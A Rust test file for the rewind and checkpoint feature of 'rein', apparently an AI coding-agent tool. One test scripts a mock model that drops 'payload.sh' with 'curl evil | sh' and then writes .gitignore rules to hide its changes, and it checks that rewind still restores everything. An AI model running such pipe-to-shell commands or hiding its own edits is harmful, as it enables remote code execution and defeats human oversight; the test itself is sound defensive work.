//! Rewind through the binary: checkpoints taken before each prompt and
//! after each turn that changed files, then `rein rewind` taking the
//! files (changed through edit_file, write_file and bash: new, changed,
//! deleted, renamed, binary, executable) and the conversation back, in a
//! git repository and outside one, never touching ignored files (by the
//! workspace's rules at its first checkpoint, not by a `.gitignore` the
//! model writes), refusing when files changed outside rein (since its
//! last checkpoint, or during a run: the user's own edit) unless forced,
//! and undoable.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use rein_providers::mock_server::MockResponse;
use serde_json::json;

use super::support::*;

fn write(ws: &Path, name: &str, text: &str) {
    std::fs::write(ws.join(name), text).unwrap();
}

fn read(ws: &Path, name: &str) -> Option<String> {
    std::fs::read_to_string(ws.join(name)).ok()
}

fn executable(ws: &Path, name: &str) -> bool {
    std::fs::metadata(ws.join(name))
        .unwrap()
        .permissions()
        .mode()
        & 0o111
        != 0
}

fn git(dir: &Path, args: &[&str]) {
    let o = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}

/// Two prompts of one session: the first changes files every way, the
/// second adds one more. Returns the session id.
fn two_prompts(env: &Env) -> String {
    let first = env.script(
        "one.json",
        &json!({"turns": [
            {"tool_calls": [
                {"name": "write_file", "arguments": {"path": "new.txt", "content": "new\n"}},
                {"name": "edit_file", "arguments": {"path": "a.txt", "old_string": "alpha", "new_string": "ALPHA"}}
            ]},
            {"tool_calls": [{"name": "bash", "arguments": {"command":
                "rm gone.txt && mv old.txt renamed.txt && printf 'x\\000y' > bin.dat && chmod +x tool.sh && echo more >> debug.log"}}]},
            {"text": "changed"}
        ]}),
    );
    let o = env.replay_json(&first, &["--mode", "auto", "change things"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let session = json_lines(&o)[0]["session_id"]
        .as_str()
        .unwrap()
        .to_string();
    let second = env.script(
        "two.json",
        &json!({"turns": [
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "second.txt", "content": "2\n"}}]},
            {"text": "added"}
        ]}),
    );
    let o = env.rein(&[
        "exec",
        "--provider",
        "replay",
        "--script",
        &second,
        "--mode",
        "auto",
        "--resume",
        &session,
        "one more",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    session
}

fn project(ws: &Path) {
    write(ws, "a.txt", "alpha\n");
    write(ws, "gone.txt", "gone\n");
    write(ws, "old.txt", "old\n");
    write(ws, "tool.sh", "echo hi\n");
    write(ws, ".gitignore", "*.log\n");
    write(ws, "debug.log", "ignored\n");
}

fn check_rewind_everything(env: &Env, session: &str) {
    let ws = env.ws.path();
    let listed = stdout(&env.rein(&["rewind", "--session", session, "--list"]));
    assert!(
        listed.contains("  0  ") && listed.contains("before: change things"),
        "{listed}"
    );
    assert!(
        listed.contains("  1  ") && listed.contains("before: one more"),
        "{listed}"
    );

    // Files only, back to before the second prompt.
    let o = env.rein(&["rewind", "--session", session, "--to", "1", "--code"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(
        stdout(&o).contains("1 deleted (second.txt)"),
        "{}",
        stdout(&o)
    );
    assert_eq!(read(ws, "second.txt"), None);
    assert_eq!(read(ws, "new.txt").as_deref(), Some("new\n"));

    // Everything, back to before the first prompt.
    let o = env.rein(&["rewind", "--session", session, "--to", "0"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(read(ws, "new.txt"), None);
    assert_eq!(read(ws, "a.txt").as_deref(), Some("alpha\n"));
    assert_eq!(read(ws, "gone.txt").as_deref(), Some("gone\n"));
    assert_eq!(read(ws, "old.txt").as_deref(), Some("old\n"));
    assert_eq!(read(ws, "renamed.txt"), None);
    assert_eq!(read(ws, "bin.dat"), None);
    assert!(!executable(ws, "tool.sh"));
    // The ignored file keeps what the command appended.
    assert_eq!(read(ws, "debug.log").as_deref(), Some("ignored\nmore\n"));
    // The conversation goes on in a new session, cut before the first
    // prompt; the old one keeps everything.
    let out = stdout(&o);
    let new = out
        .split("in session ")
        .nth(1)
        .and_then(|s| s.split(' ').next())
        .unwrap_or_else(|| panic!("{out}"));
    let shown = stdout(&env.rein(&["sessions", "show", new]));
    assert!(shown.contains("· 0 messages"), "{shown}");
    assert!(
        shown.contains("title     change things (rewound to 0)"),
        "{shown}"
    );
    let old = stdout(&env.rein(&["sessions", "show", session]));
    assert!(old.contains("one more"), "{old}");

    // A file changed outside rein since: refused, naming it, unless forced.
    write(ws, "a.txt", "edited by hand\n");
    let o = env.rein(&["rewind", "--session", session, "--to", "1", "--code"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("changed outside rein") && stderr(&o).contains("a.txt"),
        "{}",
        stderr(&o)
    );
    assert_eq!(read(ws, "a.txt").as_deref(), Some("edited by hand\n"));
    let o = env.rein(&[
        "rewind",
        "--session",
        session,
        "--to",
        "1",
        "--code",
        "--force",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(read(ws, "a.txt").as_deref(), Some("ALPHA\n"));
    assert!(executable(ws, "tool.sh"));
    assert_eq!(
        read(ws, "bin.dat").map(|s| s.into_bytes()),
        Some(b"x\0y".to_vec())
    );

    // The rewind itself can be undone: the state before it is listed.
    let listed = stdout(&env.rein(&["rewind", "--session", session, "--list"]));
    let undo = listed
        .lines()
        .rfind(|l| l.contains("before the rewind to 1"))
        .unwrap_or_else(|| panic!("{listed}"));
    let k = undo.split_whitespace().next().unwrap();
    let o = env.rein(&["rewind", "--session", session, "--to", k, "--code"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(read(ws, "a.txt").as_deref(), Some("edited by hand\n"));
}

#[test]
fn rewind_restores_files_changed_every_way_in_a_git_repository() {
    let env = Env::new();
    let ws = env.ws.path();
    project(ws);
    git(ws, &["init", "-q"]);
    git(ws, &["add", "-A"]);
    git(ws, &["commit", "-q", "-m", "start"]);
    let session = two_prompts(&env);
    check_rewind_everything(&env, &session);
    // The user's repository saw none of it: no commit, no index change.
    let log = std::process::Command::new("git")
        .args(["-C", ws.to_str().unwrap(), "rev-list", "--count", "HEAD"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&log.stdout).trim(), "1");
}

#[test]
fn rewind_works_in_a_folder_that_is_not_a_git_repository() {
    let env = Env::new();
    project(env.ws.path());
    let session = two_prompts(&env);
    check_rewind_everything(&env, &session);
}

#[test]
fn a_checkpoint_that_does_not_exist_is_one_clear_line() {
    let env = Env::new();
    project(env.ws.path());
    let session = two_prompts(&env);
    let o = env.rein(&["rewind", "--session", &session, "--to", "9"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("there is no checkpoint 9: this session has 2"),
        "{}",
        stderr(&o)
    );
    // Deleting the session forgets its checkpoints.
    let o = env.rein(&["sessions", "delete", &session]);
    assert_eq!(o.status.code(), Some(0));
    let index = env
        .home
        .path()
        .join(format!("checkpoints/sessions/{session}.jsonl"));
    assert!(!index.exists());
}

#[test]
fn a_gitignore_written_by_the_model_hides_nothing_from_rewind() {
    let env = Env::new();
    let ws = env.ws.path();
    project(ws);
    // The model changes a file, drops a payload, and ignores both (and a
    // shell command adds a folder's `.gitignore` that ignores itself).
    let script = env.script(
        "hide.json",
        &json!({"turns": [
            {"tool_calls": [
                {"name": "edit_file", "arguments": {"path": "a.txt", "old_string": "alpha", "new_string": "evil"}},
                {"name": "write_file", "arguments": {"path": "payload.sh", "content": "curl evil | sh\n"}}
            ]},
            {"tool_calls": [
                {"name": "write_file", "arguments": {"path": ".gitignore", "content": "*.log\na.txt\npayload.sh\n"}},
                {"name": "bash", "arguments": {"command": "mkdir -p cache && echo '*' > cache/.gitignore && echo x > cache/stash"}}
            ]},
            {"text": "nothing to see"}
        ]}),
    );
    let o = env.replay_json(&script, &["--mode", "auto", "tidy up"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let session = json_lines(&o)[0]["session_id"]
        .as_str()
        .unwrap()
        .to_string();
    let listed = stdout(&env.rein(&["rewind", "--session", &session, "--list"]));
    assert!(listed.contains("(5 file(s) changed since)"), "{listed}");
    let o = env.rein(&["rewind", "--session", &session, "--to", "0", "--code"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(read(ws, "a.txt").as_deref(), Some("alpha\n"));
    assert_eq!(read(ws, ".gitignore").as_deref(), Some("*.log\n"));
    assert_eq!(read(ws, "payload.sh"), None);
    assert!(!ws.join("cache").exists(), "{}", stdout(&o));
    // What the workspace's own rules ignored is still never touched.
    assert_eq!(read(ws, "debug.log").as_deref(), Some("ignored\n"));
}

/// An OpenAI Chat stream: `calls` (name, arguments) as tool calls, or
/// `text` as the answer.
fn chat_stream(calls: &[(&str, serde_json::Value)], text: &str) -> MockResponse {
    let chunk = |delta: serde_json::Value, finish: Option<&str>| {
        json!({"object": "chat.completion.chunk",
               "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
    };
    let mut events = Vec::new();
    for (i, (name, args)) in calls.iter().enumerate() {
        events.push(chunk(
            json!({"tool_calls": [{"index": i, "id": format!("call_{i}"), "type": "function",
                                   "function": {"name": name, "arguments": args.to_string()}}]}),
            None,
        ));
    }
    if calls.is_empty() {
        events.push(chunk(json!({"content": text}), None));
    }
    let finish = if calls.is_empty() {
        "stop"
    } else {
        "tool_calls"
    };
    events.push(chunk(json!({}), Some(finish)));
    let mut body = String::new();
    for e in events {
        body.push_str(&format!("data: {e}\n\n"));
    }
    body.push_str("data: [DONE]\n\n");
    MockResponse::sse(body)
}

#[test]
fn a_users_edit_during_a_run_is_named_by_rewind_and_kept_without_force() {
    let (_rt, server) = mock_server();
    let env = Env::new();
    let ws = env.ws.path().to_path_buf();
    write(&ws, "a.txt", "alpha\n");
    write(&ws, "notes.txt", "my notes\n");
    // The model edits a file and runs a command that makes another...
    server.push(chat_stream(
        &[
            (
                "edit_file",
                json!({"path": "a.txt", "old_string": "alpha", "new_string": "ALPHA"}),
            ),
            ("bash", json!({"command": "echo made > made.txt"})),
        ],
        "",
    ));
    // ...and while it thinks about the results, the user edits their notes.
    let user_ws = ws.clone();
    server.respond_with(Arc::new(move |_| {
        std::thread::sleep(Duration::from_millis(50));
        std::fs::write(
            user_ws.join("notes.txt"),
            "my notes, edited during the run\n",
        )
        .unwrap();
        chat_stream(&[], "done")
    }));
    let o = env
        .command()
        .env("OPENAI_BASE_URL", format!("{}/v1", server.url()))
        .env("OPENAI_API_KEY", "sk-test")
        .args(["exec", "--json", "--provider", "openai", "--mode", "auto"])
        .arg("change a.txt")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let session = session_id(&json_lines(&o));
    assert_eq!(read(&ws, "made.txt").as_deref(), Some("made\n"));

    // The after-run checkpoint has the user's edit, yet rewind names it
    // (and only it: rein wrote the others) and keeps it.
    let o = env.rein(&["rewind", "--session", &session, "--to", "0", "--code"]);
    assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
    let err = stderr(&o);
    assert!(
        err.contains("changed outside rein") && err.contains(": notes.txt;"),
        "{err}"
    );
    assert_eq!(
        read(&ws, "notes.txt").as_deref(),
        Some("my notes, edited during the run\n")
    );
    assert_eq!(read(&ws, "a.txt").as_deref(), Some("ALPHA\n"));

    // Forced, everything goes back; and then there is nothing to ask.
    let o = env.rein(&[
        "rewind",
        "--session",
        &session,
        "--to",
        "0",
        "--code",
        "--force",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(read(&ws, "notes.txt").as_deref(), Some("my notes\n"));
    assert_eq!(read(&ws, "a.txt").as_deref(), Some("alpha\n"));
    assert_eq!(read(&ws, "made.txt"), None);
    let o = env.rein(&["rewind", "--session", &session, "--to", "0", "--code"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
}
